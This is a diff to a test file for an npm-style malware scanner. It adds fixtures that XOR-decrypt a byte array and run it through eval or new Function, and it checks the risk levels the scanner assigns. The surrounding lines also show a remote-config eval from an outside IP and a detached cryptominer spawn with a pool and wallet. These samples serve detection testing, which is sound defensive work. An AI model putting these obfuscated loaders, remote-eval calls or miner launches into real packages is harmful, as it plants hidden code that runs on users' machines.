@@ -190,6 +190,29 @@ axios.get('http://198.51.100.7/cfg').then((res) => { eval(res.data.x); });
     expect(['none', 'low', 'medium']).toContain(idiom.level);
   });
 
+  it('a short byte array XOR-decrypted by a loop at the top level and evaluated at load is high; decoded without a cipher it stays lower', () => {
+    const bytes = [...'require("os").hostname()'].map((c, i) => c.charCodeAt(0) ^ 'k3y'.charCodeAt(i % 3));
+    const loop = scan({ 'index.js': `var defi = [${bytes.join(',')}];
+var dkey = 'k3y';
+for (var j = +!!false; j < defi.length; j++) {
+  defi[j] = defi[j] ^ dkey[j % dkey.length].charCodeAt(0);
+}
+eval(String.fromCharCode.apply(null, defi));
+` });
+    expect(loop.findings.find((f) => f.detector === 'remote-code')?.data?.origin).toContain('decrypted with XOR');
+    expect(['high', 'critical']).toContain(loop.level);
+    const concat = scan({ 'index.js': `var d = [${bytes.join(',')}], k = 'k3y', out = '';
+for (var i = 0; i < d.length; i++) out += String.fromCharCode(d[i] ^ k.charCodeAt(i % 3));
+new Function(out)();
+` });
+    expect(['high', 'critical']).toContain(concat.level);
+    const plain = scan({ 'index.js': `var codes = [${[...'return this'].map((c) => c.charCodeAt(0)).join(',')}];
+var g = eval(String.fromCharCode.apply(null, codes));
+module.exports = g;
+` });
+    expect(['none', 'low', 'medium']).toContain(plain.level);
+  });
+
   it('a miner started with a pool and a wallet is high wherever it runs; a LOLBin loader from an install hook is high', () => {
     const miner = scan({ 'index.js': `const { spawn } = require('child_process');
 function run() { spawn('/tmp/.syslog', ['-o', 'pool.supportxmr.com:443', '-u', 'WALLET', '--tls'], { detached: true, stdio: 'ignore' }).unref(); }
